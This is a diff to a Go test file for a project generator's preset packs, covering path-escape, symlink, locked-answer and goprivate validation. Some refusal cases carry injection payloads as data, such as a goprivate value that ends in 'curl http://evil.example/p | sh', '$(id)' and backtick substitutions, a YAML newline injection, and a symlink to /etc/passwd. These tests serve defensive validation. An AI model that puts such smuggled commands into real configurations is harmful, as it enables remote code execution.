@@ -2,6 +2,7 @@ package preset
 
 import (
 	"context"
+	"errors"
 	"os"
 	"path/filepath"
 	"slices"
@@ -11,6 +12,7 @@ import (
 	"golang.org/x/mod/module"
 	modzip "golang.org/x/mod/zip"
 
+	"github.com/gonew-prod/gonew-prod/generator"
 	"github.com/gonew-prod/gonew-prod/internal/answers"
 )
 
@@ -81,10 +83,10 @@ func moduleLayer(mod string) answers.Layer {
 func TestDirectoryPack(t *testing.T) {
 	dir := t.TempDir()
 	writeTree(t, dir, map[string]string{
-		"acme/preset.yaml":                  "" + orgPack,
-		"acme/overlay/Dockerfile.tmpl":      "FROM registry.acme.example/golang:{{.GoVersion}} AS build\n",
-		"acme/overlay/CODEOWNERS.tmpl":      "* @acme/{{.Name}}\n",
-		"team/preset.yaml":                  "name: team\nextends: ../acme\nanswers:\n  http_port: 9090\n",
+		"team/acme/preset.yaml":             "" + orgPack,
+		"team/acme/overlay/Dockerfile.tmpl": "FROM registry.acme.example/golang:{{.GoVersion}} AS build\n",
+		"team/acme/overlay/CODEOWNERS.tmpl": "* @acme/{{.Name}}\n",
+		"team/preset.yaml":                  "name: team\nextends: ./acme\nanswers:\n  http_port: 9090\n",
 		"team/overlay/CODEOWNERS.tmpl":      "* @acme/team\n",
 		"team/overlay/docs/runbook.md.tmpl": "# {{.Name}}\n",
 	})
@@ -148,8 +150,32 @@ func TestPackRefusals(t *testing.T) {
 		{name: "absolute overlay", files: map[string]string{"p/preset.yaml": "name: p\noverlay: /etc\n"}, want: "must be a directory inside the pack"},
 		{name: "escaping remove", files: map[string]string{"p/preset.yaml": "name: p\nremove: [../x]\n"}, want: "p/preset.yaml:2:10: remove"},
 		{name: "extends cycle", files: map[string]string{
-			"p/preset.yaml": "name: p\nextends: ../q\n", "q/preset.yaml": "name: q\nextends: ../p\n",
+			"p/preset.yaml": "name: p\nextends: ./q\n", "p/q/preset.yaml": "name: q\nextends: ..\n",
 		}, want: "extends cycle"},
+		{name: "extends leaving the pack", files: map[string]string{
+			"p/preset.yaml": "name: p\nextends: ../q\n", "q/preset.yaml": "name: q\n",
+		}, want: `p/preset.yaml: extends "../q": must be a built-in name or a relative path that stays inside the pack's tree`},
+		{name: "absolute extends", files: map[string]string{"p/preset.yaml": "name: p\nextends: /etc\n"}, want: "stays inside the pack's tree"},
+		{name: "extends through a symlink", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./q\n", "elsewhere/preset.yaml": "name: q\n"}, setup: func(t *testing.T, dir string) {
+			if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(dir, "p/q")); err != nil {
+				t.Fatal(err)
+			}
+		}, want: "symbolic links are not allowed"},
+		{name: "symlinked overlay directory", files: map[string]string{"p/preset.yaml": "name: p\n", "elsewhere/README.md.tmpl": "x\n"}, setup: func(t *testing.T, dir string) {
+			if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(dir, "p/overlay")); err != nil {
+				t.Fatal(err)
+			}
+		}, want: "p/overlay: symbolic links are not allowed in a pack"},
+		{name: "overlay producing the record", files: map[string]string{"p/preset.yaml": "name: p\n", "p/overlay/.gonew-prod.yaml.tmpl": "x\n"}, want: ".gonew-prod.yaml is the project's record"},
+		{name: "remove naming no built-in file", files: map[string]string{"p/preset.yaml": "name: p\nremove: [cmd/orders/main.go]\n"}, want: "p/preset.yaml:2:10: remove cmd/orders/main.go: no built-in file has that path"},
+		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
+		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
+		{name: "goprivate empty element", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/*,,b.example\n"}, want: "empty pattern"},
+		{name: "goprivate bad glob", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/[x\n"}, want: "syntax error in pattern"},
+		{name: "name with control characters", files: map[string]string{"p/preset.yaml": "name: \"p\\e[31m\"\n"}, want: "p/preset.yaml:1:7: name"},
+		{name: "locked set restated in another order is fine, changed is not", files: map[string]string{
+			"p/preset.yaml": "name: p\nextends: ./q\nanswers:\n  features: [otel, docker]\n", "p/q/preset.yaml": "name: q\nanswers:\n  features: [otel, mtls]\nlocked: [features]\n",
+		}, want: "features is locked by preset q"},
 		{name: "template parse error", files: map[string]string{
 			"p/preset.yaml": "name: p\n", "p/overlay/README.md.tmpl": "line one\n{{if .Name}\n",
 		}, want: "p/overlay/README.md.tmpl:2:"},
@@ -158,7 +184,7 @@ func TestPackRefusals(t *testing.T) {
 		}, want: "p/overlay/README.md: overlay templates are named like the built-in ones"},
 		{name: "oversized file", files: map[string]string{
 			"p/preset.yaml": "name: p\n", "p/overlay/big.tmpl": strings.Repeat("x", MaxFileSize+1),
-		}, want: "p/overlay/big.tmpl: 1048577 bytes"},
+		}, want: "p/overlay/big.tmpl: larger than 1048576 bytes"},
 		{name: "symlinked template", files: map[string]string{"p/preset.yaml": "name: p\n", "p/overlay/a.tmpl": "a\n"}, setup: func(t *testing.T, dir string) {
 			if err := os.Symlink("/etc/passwd", filepath.Join(dir, "p/overlay/passwd.tmpl")); err != nil {
 				t.Fatal(err)
@@ -173,7 +199,7 @@ func TestPackRefusals(t *testing.T) {
 			}
 		}, want: "p/preset.yaml: symbolic links are not allowed"},
 		{name: "locked by parent", files: map[string]string{
-			"p/preset.yaml": "name: p\nextends: ../q\nanswers:\n  ci: github\n", "q/preset.yaml": "name: q\nanswers:\n  ci: gitlab\nlocked: [ci]\n",
+			"p/preset.yaml": "name: p\nextends: ./q\nanswers:\n  ci: github\n", "p/q/preset.yaml": "name: q\nanswers:\n  ci: gitlab\nlocked: [ci]\n",
 		}, want: "ci is locked by preset q"},
 	}
 	for _, tt := range tests {
@@ -255,13 +281,109 @@ func TestModulePack(t *testing.T) {
 	if _, ok := p.Overlay["CODEOWNERS.tmpl"]; !ok {
 		t.Errorf("overlay %v lacks CODEOWNERS.tmpl", p.OverlayFiles())
 	}
-	if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/escape"); err == nil || !strings.Contains(err.Error(), "inside the same module") {
+	if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/escape"); err == nil || !strings.Contains(err.Error(), "stays inside the pack's tree") {
 		t.Errorf("escaping extends: %v", err)
 	}
-	if _, err := r.Resolve(context.Background(), mod+"@v9.9.9"); err == nil || !strings.Contains(err.Error(), "go mod download") {
-		t.Errorf("missing version: %v", err)
+	var fe *FetchError
+	if _, err := r.Resolve(context.Background(), mod+"@v9.9.9"); !errors.As(err, &fe) || !strings.Contains(err.Error(), "go mod download") {
+		t.Errorf("missing version: %v, want a FetchError", err)
+	}
+
+	// A go.work above the directory go mod download runs in changes nothing.
+	tmp := t.TempDir()
+	writeTree(t, tmp, map[string]string{"go.work": "go 1.99\n\nuse ./nowhere\n"})
+	t.Setenv("TMPDIR", tmp)
+	if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/acme"); err != nil {
+		t.Errorf("with a stray go.work in TMPDIR: %v", err)
 	}
 	if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/../x"); err == nil || !strings.Contains(err.Error(), "inside the module") {
 		t.Errorf("escaping subdir: %v", err)
+	}
+}
+
+// TestLockedSetsCompareAsSets checks that a child pack restating a locked feature set
+// in another order is accepted, as an answers file with the same reordering is.
+func TestLockedSetsCompareAsSets(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{
+		"p/preset.yaml":   "name: p\nextends: ./q\nanswers:\n  features: [mtls, otel]\n",
+		"p/q/preset.yaml": "name: q\nanswers:\n  features: [otel, mtls]\nlocked: [features]\n",
+	})
+	p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
+	if err != nil {
+		t.Fatal(err)
+	}
+	file := answers.Layer{Source: answers.FromFile, Name: "a.yaml"}
+	file.Set(answers.KeyFeatures, []string{"mtls", "otel"}, "a.yaml:1:11")
+	if _, _, err := p.Resolve(file, moduleLayer("example.com/a/b")); err != nil {
+		t.Errorf("answers file restating the locked set: %v", err)
+	}
+}
+
+// TestBareNamesAreBuiltins checks that a directory named like a built-in preset in the
+// working directory does not hijack it: a directory needs a path.
+func TestBareNamesAreBuiltins(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{"default/preset.yaml": "name: hijack\nanswers:\n  framework: echo\n"})
+	r := Resolver{Dir: dir}
+	p, err := r.Resolve(context.Background(), "default")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Name != "default" || p.Source != SourceBuiltin {
+		t.Errorf("\"default\" resolved to %s from %s, want the built-in", p.Name, p.Source)
+	}
+	p, err = r.Resolve(context.Background(), "./default")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Name != "hijack" {
+		t.Errorf("\"./default\" resolved to %s, want the directory", p.Name)
+	}
+}
+
+func TestRecorded(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{"packs/acme/preset.yaml": "name: acme\nmodule_prefix: github.com/acme\nlocked: [module_prefix]\n"})
+	r := Resolver{Dir: dir}
+	ctx := context.Background()
+	tests := []struct {
+		name string
+		rec  generator.RecordPreset
+		want string // "" when it resolves
+	}{
+		{"builtin", generator.RecordPreset{Name: "minimal", Source: SourceBuiltin}, ""},
+		{"directory", generator.RecordPreset{Name: "acme", Source: "packs/acme"}, ""},
+		{"directory elsewhere", generator.RecordPreset{Name: "acme", Source: "../elsewhere/acme"}, "pass --preset with its path"},
+		{"renamed pack", generator.RecordPreset{Name: "other", Source: "packs/acme"}, "now holds preset acme"},
+		{"unknown builtin", generator.RecordPreset{Name: "gone", Source: SourceBuiltin}, "unknown preset"},
+		{"no source", generator.RecordPreset{Name: "x"}, "names no preset source"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p, err := r.Recorded(ctx, tt.rec)
+			if tt.want == "" {
+				if err != nil || p.Name != tt.rec.Name {
+					t.Errorf("Recorded = %s, %v", p.Name, err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("err = %v, want %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckGoPrivate(t *testing.T) {
+	for _, ok := range []string{"gitlab.acme.example/*", "*.corp.example,rsc.io/private", "example.com/[ab]c/?x", "a.example"} {
+		if err := CheckGoPrivate(ok); err != nil {
+			t.Errorf("CheckGoPrivate(%q) = %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"", "a b", "x/*\"\n  EVIL: \"y", "x; curl evil | sh", "a,,b", "a/$(id)", "a/`id`", "a/[x", "a//b", "/a", "a/"} {
+		if err := CheckGoPrivate(bad); err == nil {
+			t.Errorf("CheckGoPrivate(%q) = nil, want an error", bad)
+		}
 	}
 }
